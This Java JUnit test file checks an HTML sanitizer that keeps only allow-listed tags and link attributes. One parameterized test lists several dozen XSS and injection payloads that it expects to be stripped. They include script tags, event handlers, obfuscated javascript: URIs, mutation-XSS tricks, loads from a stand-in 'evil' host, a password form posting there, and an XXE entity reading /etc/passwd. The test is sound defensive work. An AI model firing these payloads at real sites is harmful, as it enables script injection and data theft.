package org.docket.form;

import static org.assertj.core.api.Assertions.assertThat;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Of what people paste and attackers send, only the elements of the list stay. */
class RichTextTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "<p>Oil <b>leaks</b></p> | <p>Oil <strong>leaks</strong></p>",
        "<h1>A</h1><h5>B</h5> | <h2>A</h2><h3>B</h3>",
        "<ul><li><p>one</p></li></ul> | <ul><li><p>one</p></li></ul>",
        "<p style=\"color:red\" class=\"MsoNormal\">red</p> | <p>red</p>",
        "<div><span>plain</span></div> | plain",
        "<a href=\"https://example.com/?a=1&amp;b=2\">x</a> | <a href=\"https://example.com/?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\">x</a>",
        "<a href=\"tel:021-5501\">x</a> | <a href=\"tel:021-5501\" rel=\"noopener noreferrer nofollow\">x</a>",
        "<a href=\"/api/v1/session\">x</a> | x",
        "<p>中文 &lt;b&gt; &amp; 表格</p> | <p>中文 &lt;b&gt; &amp; 表格</p>",
        "<table><tr><td>cell</td></tr></table> | cell",
      })
  void shouldKeepWhatIsOnTheList(String sent, String kept) {
    assertThat(RichText.clean(sent)).isEqualTo(kept);
    assertThat(RichText.clean(kept)).isEqualTo(kept);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil/pixel.png\">",
        "<p onclick=\"alert(1)\" onmouseover=alert(1)>x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil/x.swf\"></object><embed src=\"https://evil\">",
        "<style>@import 'https://evil/x.css';</style><link rel=stylesheet href=https://evil>",
        "<base href=\"https://evil/\"><meta http-equiv=refresh content=\"0;url=https://evil\">",
        "<form action=https://evil><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<p style=\"background:url(https://evil)\">x</p>",
        "<p style=\"-fs-flow: x; content: element(pagehead)\">x</p>",
        "<div class=\"page-head\" id=\"x\">x</div>",
        "<video src=x onerror=alert(1)></video><audio src=x></audio>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><p>&e;</p>",
        "<title></title><textarea></textarea><xmp><img src=x onerror=alert(1)></xmp>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "#set($x = 1)$fn.page()<p>$record.class</p><marquee onstart=alert(1)>x</marquee>",
        "<a href=\"https://example.com\" target=\"_top\" onclick=alert(1) style=\"position:fixed\">x</a>",
        "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
      })
  void shouldLeaveNothingThatRunsLoadsOrHides(String hostile) {
    for (String cleaned : new String[] {RichText.clean(hostile), RichText.xml(hostile)}) {
      Document read = Jsoup.parseBodyFragment(cleaned);

      assertThat(read.head().children()).isEmpty();
      for (Element element : read.body().select("*")) {
        assertThat(element.tagName()).isIn("body", "p", "a");
        for (Attribute attribute : element.attributes()) {
          assertThat(attribute.toString())
              .isIn("href=\"https://example.com\"", "rel=\"noopener noreferrer nofollow\"");
        }
      }
    }
  }

  @Test
  void shouldBeXmlForPrinting() {
    assertThat(RichText.xml("<p>a<br>b &nbsp;c</p><hr>")).contains("<br />").contains("<hr />");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "<p>a</p><p>b</p> | a\\nb",
        "<ul><li><p>one</p></li><li>two</li></ul> | one\\ntwo",
        "<p>a<br>b&nbsp;c &lt;d&gt;</p> | a\\nb c <d>",
      })
  void shouldReadAsPlainText(String html, String text) {
    assertThat(RichText.text(html)).isEqualTo(text.replace("\\n", "\n"));
  }

  @Test
  void shouldMakeParagraphsOfPlainText() {
    assertThat(RichText.of("a < b\nc")).isEqualTo("<p>a &lt; b</p><p>c</p>");
  }

  @Test
  void shouldLeaveOnlyTheAttributesOfLinks() {
    Element link =
        Jsoup.parseBodyFragment(
                RichText.clean("<a href=https://a.example class=x id=y rel=opener>x</a>"))
            .selectFirst("a");

    assertThat(link).isNotNull();
    assertThat(link.attributes().asList())
        .extracting(Attribute::getKey)
        .containsExactlyInAnyOrder("href", "rel");
    assertThat(link.attr("rel")).isEqualTo("noopener noreferrer nofollow");
  }
}
